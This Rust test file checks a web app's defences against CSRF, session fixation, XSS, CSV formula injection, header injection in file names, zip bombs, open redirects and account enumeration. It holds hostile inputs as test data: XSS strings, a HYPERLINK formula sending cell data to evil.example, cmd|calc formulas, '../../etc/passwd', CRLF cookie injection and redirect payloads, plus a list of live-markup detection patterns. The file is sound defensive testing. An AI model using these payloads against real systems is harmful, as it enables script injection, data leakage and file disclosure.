//! What people try who mean harm: planted sessions, forms from elsewhere, texts that are scripts or formulas, files that unpack to much,
//! links that lead away, and questions whose answers should tell nothing.

use std::io::Write as _;

use axum::body::Body;
use axum::http::{Request, header};
use mingzheng::flow::account::{invite, keep};
use mingzheng::flow::{Actor, clients};
use mingzheng::rules::{AccountRole, VerificationCode};
use serde_json::{Value, json};

use super::browser::{Browser, encoded};
use super::web::{Answer, CLERK, COMPANY, ELSEWHERE, Form, OPERATOR, OTHER, Web};
use crate::flows::house::{Row, csv, row};
use crate::flows::people::{PASSWORD, code, grants, link, somebody};

/// Texts that a page must show and never run.
const SCRIPTS: [&str; 3] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'-alert(1)-'{{7*7}}</title><svg/onload=1>",
];

/// Whether a page keeps a text from being markup.
#[track_caller]
fn is_harmless(text: &str, place: &str) {
    for live in ["<script>alert", "<img src=x", "<svg/onload", "\"><img", "javascript:"] {
        assert!(!text.contains(live), "{place}: {live} in {text}");
    }
}

/// The routes of forms, and who passes.
fn forms() -> Vec<(&'static str, &'static str)> {
    let lines = include_str!("../../golden/access.txt").lines();
    let rows = lines.filter_map(|line| line.strip_prefix("POST")).map(str::trim);
    let forms =
        rows.filter_map(|row| row.split_once(char::is_whitespace)).map(|(path, who)| (path, who.trim()));
    // Verification changes nothing, and anybody may send it from anywhere.
    forms.filter(|(path, _)| !path.starts_with("/api/") && *path != "/v").collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_form_is_taken_without_the_token_of_its_session() {
    let web = Web::open().await;
    let forms = forms();
    assert!(forms.len() > 15);
    let other = somebody(&web.house, "other", AccountRole::Security).await;
    let others = Browser::with(&web, &other.session).await.token.borrow().clone();
    let stranger = Browser::new(&web);
    stranger.get("/sign-in").await;
    let strangers = stranger.token.borrow().clone();
    let acts = "SELECT COUNT(*) FROM journal";
    for (path, who) in forms {
        let role = match who.split_whitespace().next() {
            Some("open" | "session") | None => AccountRole::Security,
            Some(word) => word.parse().unwrap(),
        };
        let name = format!("u{}", &web.house.app.mint().simple().to_string()[20..]);
        let session = somebody(&web.house, &name, role).await.session;
        let id = keep::named(&web.house.app, &Actor::operator(), "other").await.unwrap().to_string();
        let holes = [
            ("{id}", id.as_str()),
            ("{act}", "lock"),
            ("{ask}", id.as_str()),
            ("{code}", "ABCD"),
            ("{number}", "x"),
            ("{secret}", "none"),
            ("{provider}", "x"),
        ];
        let path = holes.iter().fold(path.to_owned(), |path, (hole, value)| path.replace(hole, value));
        let browser = Browser::with(&web, &session).await;
        let before = web.house.number(acts).await;
        for token in ["", "csrf=&", "csrf=0123&", &format!("csrf={others}&"), &format!("csrf={strangers}&")] {
            let body = format!(
                "{token}name=wang&new={p}&again={p}&code=1&sure=yes&days=9&session={}",
                "0".repeat(64),
                p = encoded(PASSWORD)
            );
            let request = Request::post(&path)
                .header("host", "127.0.0.1:8600")
                .header("origin", "http://127.0.0.1:8600")
                .header("content-type", "application/x-www-form-urlencoded");
            let answer = browser.send(request.body(Body::from(body)).unwrap()).await;
            // A form with a file is read by its parts, and refused before that as what it is not.
            assert!([403, 415].contains(&answer.status.as_u16()), "{path} with {token:?}: {}", answer.status);
        }
        assert_eq!(web.house.number(acts).await, before, "{path} did something");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_step_of_signing_in_has_a_session_of_its_own() {
    let web = Web::open().await;
    let security = somebody(&web.house, "security", AccountRole::Security).await;
    web.house.pass(60_000);
    let browser = Browser::new(&web);
    browser.get("/sign-in").await;
    browser.cookies.borrow_mut().insert("mz_session".into(), "0".repeat(64)); // planted
    browser.get("/sign-in").await;
    let half = browser.post("/sign-in", &[("name", "security"), ("password", PASSWORD)]).await;
    assert_eq!(half.header("location"), "/sign-in/factor?next=");
    let first = browser.session().unwrap();
    assert_ne!(first, "0".repeat(64));
    browser.get("/sign-in/factor").await;
    let typed = code(&security.key.unwrap(), &web.house);
    let whole = browser.post("/sign-in/factor", &[("code", &typed)]).await;
    assert_eq!(whole.header("location"), "/account", "{}", whole.text());
    let second = browser.session().unwrap();
    assert_ne!(second, first);
    assert_eq!(
        Browser::with(&web, &first).await.get("/account").await.status,
        303,
        "the half one opens nothing"
    );
    for (name, value) in browser.cookies.borrow().iter() {
        assert!(!value.contains("security") && !value.contains(PASSWORD), "{name}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn texts_of_others_are_shown_and_never_run() {
    let web = Web::open().await;
    let security = somebody(&web.house, "security", AccountRole::Security).await;
    let browser = Browser::with(&web, &security.session).await;
    let operator = Actor::operator();
    for (number, text) in SCRIPTS.into_iter().enumerate() {
        let (role, grants) = (AccountRole::Verifier, grants(AccountRole::Verifier));
        let invited = invite::Invited { shown: text.to_owned(), role, grants: grants.clone() };
        let link = invite::invite(&web.house.app, &operator, invited).await.unwrap();
        let path = link.address.trim_start_matches("http://127.0.0.1:8600").to_owned();
        is_harmless(&browser.get(&path).await.text(), "an invitation");
        let knock = mingzheng::flow::account::sign_in::Knock { address: text.into(), agent: text.into() };
        let secret = path.rsplit('/').next().unwrap();
        let name = format!("evil{number}");
        let opened = invite::accept(&web.house.app, &knock, secret, &name, PASSWORD, PASSWORD).await.unwrap();
        let evil = Browser::with(&web, &opened.secret).await;
        is_harmless(&evil.get("/account").await.text(), "their own account, with their program's name");
        let wanted = clients::Wanted { name: text.to_owned(), role, grants, days: 1, certificate: None };
        let made = clients::make(&web.house.app, &operator, wanted).await.unwrap();
        let id = keep::named(&web.house.app, &operator, &name).await.unwrap();
        for path in [
            "/accounts".to_owned(),
            format!("/accounts/{id}"),
            "/clients".to_owned(),
            format!("/clients/{}", made.id),
        ] {
            let page = browser.get(&path).await;
            assert_eq!(page.status, 200, "{path}");
            is_harmless(&page.text(), &path);
        }
        let hidden = encoded(text);
        for path in [
            format!("/v/{hidden}"),
            format!("/v?code={hidden}"),
            format!("/problems/{hidden}"),
            format!("/sign-in?next={hidden}"),
            format!("/sign-in?next=/{hidden}"),
            format!("/accounts?page=1&x={hidden}&page={hidden}"),
            format!("/invitation/{hidden}"),
            format!("/sign-in/from/{hidden}?error={hidden}&state={hidden}"),
            format!("/{hidden}"),
        ] {
            is_harmless(&browser.get(&path).await.text(), &path);
        }
        browser.get("/clients/new").await;
        let fields =
            [("name", text), ("role", text), ("grants", text), ("days", text), ("certificate", text)];
        is_harmless(&browser.post("/clients/new", &fields).await.text(), "a form with a fault");
        let stranger = Browser::new(&web);
        stranger.get("/sign-in").await;
        let fields = [("name", text), ("password", text), ("next", text)];
        is_harmless(&stranger.post("/sign-in", &fields).await.text(), "a refused sign-in");
        stranger.cookies.borrow_mut().insert("mz_flash".into(), hidden.clone());
        stranger.cookies.borrow_mut().insert("mz_lang".into(), hidden.clone());
        stranger.cookies.borrow_mut().insert("mz_look".into(), hidden);
        is_harmless(&stranger.get("/sign-in").await.text(), "cookies");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_of_files_become_no_headers_and_no_markup() {
    let web = Web::open().await;
    for (number, name) in ["<script>alert(1)</script>.csv", "a%0d%0aset-cookie: x=1.csv", "../../etc/passwd"]
        .into_iter()
        .enumerate()
    {
        let document = format!("示市监处罚〔2025〕9{number:03}号");
        let bytes = csv(&[Row { document, ..row(1) }, Row { decided: "2024/02/30".into(), ..row(1) }]);
        let sent = web.upload(CLERK, Form::new().file(name, &bytes)).await;
        assert_eq!(sent.status, 201, "{}", sent.text());
        assert_eq!(sent.header("content-type"), "application/json");
        let id = sent.json()["upload"].as_str().unwrap().to_owned();
        let rejects = web.get_as(CLERK, &format!("/api/v1/uploads/{id}/rejects")).await;
        let disposition = rejects.header("content-disposition").to_owned();
        assert!(disposition.starts_with("attachment; filename="), "{disposition}");
        for part in ["<", "/", "\r", "\n", "set-cookie"] {
            assert!(!disposition.contains(part), "{disposition}");
        }
        assert_eq!(rejects.header("set-cookie"), "");
    }
}

/// Cells that spreadsheets compute, or once did.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example?\"&A1,\"点击\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cell_of_a_file_that_we_give_back_is_computed_and_what_was_corrected_is_taken() {
    let web = Web::open().await;
    let rows: Vec<Row> = (1..)
        .zip(FORMULAS)
        .map(|(number, facts)| Row { facts: format!("\"{}\"", facts.replace('"', "\"\"")), ..row(number) })
        .collect();
    let sent = web.upload(CLERK, Form::new().file("a.csv", &csv(&rows))).await.json();
    let count = u64::try_from(FORMULAS.len()).unwrap();
    assert_eq!((&sent["accepted"], &sent["rejected"]), (&json!(0), &json!(count)), "{}", sent["faults"]);
    let rejects = sent["rejects_csv"].as_str().unwrap();
    let mut reader = csv_reader(rejects.trim_start_matches('\u{feff}'));
    for (record, formula) in reader.records().zip(FORMULAS) {
        let record = record.unwrap();
        for cell in &record {
            let computed =
                cell.trim_start_matches([' ', '\u{a0}']).starts_with(['=', '@', '\t', '\r', '＝', '＠']);
            assert!(!computed && !cell.contains("\n="), "{cell:?}");
            let signed = cell.starts_with(['+', '-', '＋', '－']);
            assert!(!signed || cell[1..].parse::<f64>().is_ok(), "{cell:?}");
        }
        let kept = formula.trim_start_matches('\'');
        assert!(
            record.iter().any(|cell| cell.trim_start_matches('\'') == kept),
            "{formula:?} came back as sent: {record:?}"
        );
    }
    // What a clerk corrects in that file is taken, and the apostrophes of what stays wrong change no reason.
    let again = web.upload(CLERK, Form::new().file("b.csv", rejects.as_bytes())).await.json();
    assert_eq!((&again["accepted"], &again["rejected"]), (&json!(0), &json!(count)));
    let corrected = FORMULAS.iter().fold(rejects.to_owned(), |text, formula| {
        let cell = formula.trim_start_matches('\'').replace('"', "\"\"");
        text.replace(&format!("'{cell}"), "当事人未按规定明码标价。")
            .replace(&cell, "当事人未按规定明码标价。")
    });
    let taken = web.upload(CLERK, Form::new().file("c.csv", corrected.as_bytes())).await.json();
    assert_eq!((&taken["accepted"], &taken["rejected"]), (&json!(count), &json!(0)), "{}", taken["faults"]);
}

fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
    csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_small_file_that_unpacks_to_much_is_told_and_no_more() {
    let web = Web::open().await;
    let zeros = vec![b'0'; 1 << 20];
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("a.csv", zip::write::SimpleFileOptions::default().compression_level(Some(9))).unwrap();
    for _ in 0..64 {
        zip.write_all(&zeros).unwrap();
    }
    let zip = zip.finish().unwrap().into_inner();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        gzip.write_all(&zeros).unwrap();
    }
    let gzip = gzip.finish().unwrap();
    assert!(zip.len() < 1 << 18 && gzip.len() < 1 << 18);
    for (name, bytes) in [("a.zip", &zip), ("a.csv.gz", &gzip)] {
        let answer = web.upload(CLERK, Form::new().file(name, bytes)).await;
        let told = answer.problem("unreadable-file", 422);
        assert!(told.contains(" / "), "{told}");
    }
    let request = Request::post("/api/v1/verifications")
        .header("authorization", format!("Bearer {OPERATOR}"))
        .header("content-type", Form::KIND);
    let answer = web.send(request.body(Body::from(Form::new().file("a.zip", &zip).end())).unwrap()).await;
    assert!(answer.status.is_success(), "{}", answer.text());
    assert_eq!(web.house.number("SELECT COUNT(*) FROM record_version").await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_is_led_to_another_place() {
    let web = Web::open().await;
    somebody(&web.house, "agent", AccountRole::Agent).await;
    for next in [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example/",
        "/\t/evil.example/",
        "/\r\nlocation: https://evil.example/",
        "javascript:alert(1)",
        "evil.example",
        " //evil.example",
        "///evil.example",
    ] {
        let browser = Browser::new(&web);
        browser.get(&format!("/sign-in?next={}", encoded(next))).await;
        let fields = [("name", "agent"), ("password", PASSWORD), ("next", next)];
        let answer = browser.post("/sign-in", &fields).await;
        assert_eq!((answer.status.as_u16(), answer.header("location")), (303, "/account"), "{next:?}");
    }
    for path in
        ["//evil.example/?lang=en", "/sign-in?lang=en&next=//evil.example", "/v?code=//evil.example&lang=en"]
    {
        let location = web.get(path).await.header("location").to_owned();
        assert!(
            location.is_empty() || (location.starts_with('/') && !location.starts_with("//")),
            "{path}: {location}"
        );
    }
    let forged = Request::get("/account")
        .header(header::HOST, "evil.example")
        .header("x-forwarded-host", "evil.example");
    let answer = web.send(forged.body(Body::empty()).unwrap()).await;
    assert_eq!(
        answer.header("location"),
        "/sign-in?next=%2Faccount",
        "a host that somebody names leads nowhere"
    );
}

/// What a caller sees, without what differs from request to request by design.
fn seen(answer: &Answer) -> (u16, String) {
    (answer.status.as_u16(), answer.text())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_not_yours_is_answered_like_what_is_not_there() {
    let web = Web::open().await;
    web.house.declare().await;
    let upload = web.upload(CLERK, Form::new().file("a.csv", &csv(&[row(1)]))).await.json();
    web.house.pass(1000);
    let report = web.report().await;
    let asked = json!({ "kind": "objection", "document_number": row(1).document, "statement": "金额有误。" });
    let case = web.post_json(COMPANY, "/api/v1/cases", &asked).await.json();
    let nothing = "00000000-0000-7000-8000-000000000007";
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let number = text(&report["number"]);
    for (token, there, not_there) in [
        (OTHER, format!("/api/v1/reports/{number}"), "/api/v1/reports/MZCR-20261122-00000000-0".to_owned()),
        (
            OTHER,
            format!("/api/v1/reports/{number}/pdf"),
            "/api/v1/reports/MZCR-20261122-00000000-0/pdf".to_owned(),
        ),
        (
            ELSEWHERE,
            format!("/api/v1/uploads/{}", text(&upload["upload"])),
            format!("/api/v1/uploads/{nothing}"),
        ),
        (
            COMPANY,
            format!("/api/v1/uploads/{}", text(&upload["upload"])),
            format!("/api/v1/uploads/{nothing}"),
        ),
        (OTHER, format!("/api/v1/cases/{}", text(&case["id"])), format!("/api/v1/cases/{nothing}")),
        (ELSEWHERE, format!("/api/v1/cases/{}", text(&case["id"])), format!("/api/v1/cases/{nothing}")),
    ] {
        let (theirs, none) = (web.get_as(token, &there).await, web.get_as(token, &not_there).await);
        let same = |answer: &Answer, path: &str| {
            let (status, text) = seen(answer);
            let id = path.split('/').nth(4).unwrap();
            (status, text.replace(id, "…"))
        };
        assert_eq!(same(&theirs, &there), same(&none, &not_there), "{there}");
        assert!([403, 404].contains(&theirs.status.as_u16()), "{there}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_miss_of_a_code_is_answered_alike() {
    let web = Web::open().await;
    let codes: Vec<VerificationCode> = (1..4).map(|n| VerificationCode::from_random([n; 10])).collect();
    let mut pages = Vec::new();
    let mut answers = Vec::new();
    for code in &codes {
        let page = web.get(&format!("/v/{}", code.compact())).await;
        pages.push((page.status, page.text().replace(&code.to_string(), "…").replace(&code.compact(), "…")));
        answers.push(seen(
            &web.post("/api/v1/verify", "application/json", json!({ "code": code.compact() }).to_string())
                .await,
        ));
    }
    assert!(pages.iter().all(|page| *page == pages[0]), "{pages:?}");
    assert!(answers.iter().all(|answer| *answer == answers[0]), "{answers:?}");
    assert_eq!(answers[0].0, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signing_in_and_links_tell_nothing_of_who_is_there() {
    let web = Web::open().await;
    somebody(&web.house, "agent", AccountRole::Agent).await;
    somebody(&web.house, "locked", AccountRole::Agent).await;
    let id = keep::named(&web.house.app, &Actor::operator(), "locked").await.unwrap();
    keep::lock(&web.house.app, &Actor::operator(), id, true).await.unwrap();
    let mut seen_by_name = Vec::new();
    for name in ["agent", "nobody", "locked"] {
        let browser = Browser::new(&web);
        browser.get("/sign-in").await;
        let mut all = Vec::new();
        for attempt in 0..6 {
            let password = if name == "locked" { PASSWORD } else { "a wrong one, though long" };
            let answer = browser.post("/sign-in", &[("name", name), ("password", password)]).await;
            let token = browser.token.borrow().clone();
            all.push((attempt, answer.status, answer.text().replace(name, "…").replace(&token, "…")));
        }
        seen_by_name.push(all);
    }
    assert_eq!(seen_by_name[0], seen_by_name[1]);
    assert_eq!(
        seen_by_name[0], seen_by_name[2],
        "the right password of a locked account tells nothing either"
    );
    assert_eq!(seen_by_name[0][5].1, 429, "and the sixth one is locked out for all of them");

    let used = link(&web.house.app, AccountRole::Verifier).await;
    let browser = Browser::new(&web);
    browser.get(&format!("/invitation/{used}")).await;
    let fields = [("name", "verifier"), ("new", PASSWORD), ("again", PASSWORD)];
    assert_eq!(browser.post(&format!("/invitation/{used}"), &fields).await.status, 303);
    let over = link(&web.house.app, AccountRole::Security).await;
    web.house.pass(4 * 24 * 60 * 60_000);
    let look = async |secret: &str| {
        let stranger = Browser::new(&web);
        let answer = stranger.get(&format!("/invitation/{secret}")).await;
        let token = stranger.token.borrow().clone();
        let text = answer.text();
        (answer.status, if token.is_empty() { text } else { text.replace(&token, "…") })
    };
    let never = look(&"0".repeat(64)).await;
    assert_eq!(never.0, 404);
    assert_eq!((look(&used).await, look(&over).await), (never.clone(), never));
}
